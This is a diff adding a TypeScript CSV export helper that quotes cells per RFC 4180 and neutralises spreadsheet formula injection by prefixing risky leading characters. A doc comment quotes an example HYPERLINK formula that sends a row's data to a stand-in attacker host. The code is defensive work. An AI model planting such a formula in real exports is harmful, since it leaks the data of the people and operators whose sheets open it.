@@ -1,0 +1,25 @@
+/** A cell of an exported row: text, a number, or nothing (an empty cell). */
+export type CsvCell = string | number | null
+
+/**
+ * The first characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as
+ * a formula, or strip them and read the rest as one. User agents, hostnames and page actions are
+ * whatever a visitor sent: `=HYPERLINK("https://evil.example?"&A1, "Open")` in a user agent must
+ * reach the operator's sheet as text, not as a link that sends the row elsewhere.
+ */
+const FORMULA_START = /^[=+\-@\t\r]/
+
+/** RFC 4180: a cell with a quote, a comma or a line break is quoted, its quotes doubled. */
+const NEEDS_QUOTES = /[",\r\n]/
+
+/** One cell as CSV text: neutralised against formula injection, then quoted where RFC 4180 asks. */
+export function csvCell(cell: CsvCell): string {
+  if (cell === null) return ''
+  const text = typeof cell === 'number' ? String(cell) : FORMULA_START.test(cell) ? `'${cell}` : cell
+  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text
+}
+
+/** One record of a CSV file, with its CRLF line end (RFC 4180). */
+export function csvLine(cells: readonly CsvCell[]): string {
+  return `${cells.map(csvCell).join(',')}\r\n`
+}
